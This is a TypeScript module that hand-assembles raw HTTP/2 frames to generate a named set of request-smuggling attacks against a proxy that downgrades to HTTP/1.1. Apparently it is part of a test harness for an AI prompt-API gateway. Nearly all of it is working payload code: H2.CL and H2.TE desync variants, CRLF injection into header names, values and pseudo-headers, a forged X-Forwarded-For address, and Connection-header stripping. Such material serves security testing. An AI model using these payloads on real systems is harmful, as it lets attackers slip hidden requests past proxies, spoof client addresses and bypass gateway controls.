import { type Attack, FORGED_ADDRESS, hiddenRequest } from './smuggled-requests.ts'

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const DATA = 0
const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const GOAWAY = 7
const END_STREAM = 1
const END_HEADERS = 4
const HEAD_BYTES = 9

/** A frame (RFC 9113 §4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(HEAD_BYTES)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** A string without Huffman coding, with its length in a prefix of seven bits (RFC 7541 §5.1, §5.2). */
function literal(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1')
  const length: number[] = []
  if (bytes.length < 127) length.push(bytes.length)
  else {
    length.push(127)
    let rest = bytes.length - 127
    for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128)
    length.push(rest)
  }
  return Buffer.concat([Buffer.from(length), bytes])
}

/** Returns the bytes of a connection with one request. Its fields may be wrong, so no library would send them. */
function request(fields: readonly (readonly [string, string])[], body: string): Buffer {
  const block = fields.flatMap(([name, value]) => [Buffer.from([0]), literal(name), literal(value)])
  return Buffer.concat([
    Buffer.from(PREFACE),
    frame(SETTINGS, 0, 0, Buffer.alloc(0)),
    frame(HEADERS, END_HEADERS, 1, Buffer.concat(block)),
    frame(DATA, END_STREAM, 1, Buffer.from(body)),
  ])
}

/** Returns how a connection answered its request: with headers, with an error, or not yet. */
export function http2Outcome(received: Buffer): 'response' | 'error' | null {
  for (let at = 0; at + HEAD_BYTES <= received.length; at += HEAD_BYTES + received.readUIntBE(at, 3)) {
    const type = received.readUInt8(at + 3)
    if (type === HEADERS) return 'response'
    if (type === RST_STREAM || type === GOAWAY) return 'error'
  }
  return null
}

/** Returns the bytes of a valid request. */
export function http2Request({ host, key, id }: Attack): Buffer {
  const body = JSON.stringify({ text: `Which tool is ${id}?` })
  return request([...fieldsOf({ host, key, id }), ['x-request-id', id]], body)
}

/** Returns the fields of a request that creates a prompt. */
function fieldsOf({ host, key }: Attack): (readonly [string, string])[] {
  return [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':authority', host],
    [':path', '/v1/prompts'],
    ['authorization', `Bearer ${key}`],
    ['content-type', 'application/json'],
  ]
}

/** Returns the bytes of each attack over HTTP/2 on a proxy that talks HTTP/1.1 to the gateway, by its name. */
export function http2Attacks(attack: Attack): Record<string, Buffer> {
  const { host } = attack
  const hidden = hiddenRequest(attack)
  const ended = `0\r\n\r\n${hidden}`
  const base = fieldsOf(attack)
  const withFields = (...fields: [string, string][]) => [...base, ...fields]
  const replaced = (name: string, value: string) =>
    base.map(([field, old]) => [field, field === name ? value : old] as const)
  const line = `X-Forwarded-For: ${FORGED_ADDRESS}`
  return {
    'H2.CL': request(withFields(['content-length', '0']), hidden),
    'H2.CL with a longer length': request(withFields(['content-length', '100000']), hidden),
    'H2.CL with two lengths': request(
      withFields(['content-length', '0'], ['content-length', String(hidden.length)]),
      hidden,
    ),
    'H2.TE': request(withFields(['transfer-encoding', 'chunked']), ended),
    'H2.TE with a length': request(
      withFields(['transfer-encoding', 'chunked'], ['content-length', String(ended.length)]),
      ended,
    ),
    'a line end in a value': request(withFields(['x-nothing', 'x\r\nTransfer-Encoding: chunked']), ended),
    'a line feed in a value': request(withFields(['x-nothing', 'x\nTransfer-Encoding: chunked']), ended),
    'a line end in a name': request(withFields(['x: x\r\ntransfer-encoding', 'chunked']), ended),
    'a colon in a name': request(withFields(['transfer-encoding: chunked\r\nx', 'x']), ended),
    'a request in a value': request(withFields(['x-nothing', `x\r\n\r\n${hidden}`]), ''),
    'a request in the method': request(
      replaced(':method', `GET /healthz HTTP/1.1\r\nHost: ${host}\r\n\r\nPOST`),
      hidden,
    ),
    'a request in the path': request(
      replaced(':path', `/healthz HTTP/1.1\r\nHost: ${host}\r\n${line}\r\n\r\n${hidden}`),
      '',
    ),
    'a request in the scheme': request(
      replaced(':scheme', `http://${host}/healthz HTTP/1.1\r\n\r\n`),
      hidden,
    ),
    'a request in the authority': request(replaced(':authority', `${host}\r\n\r\n${hidden}`), ''),
    'a header that Connection removes': request(
      withFields(['connection', 'content-length'], ['content-length', String(hidden.length)]),
      hidden,
    ),
    'an upgrade': request(withFields(['connection', 'upgrade'], ['upgrade', 'websocket']), hidden),
  }
}
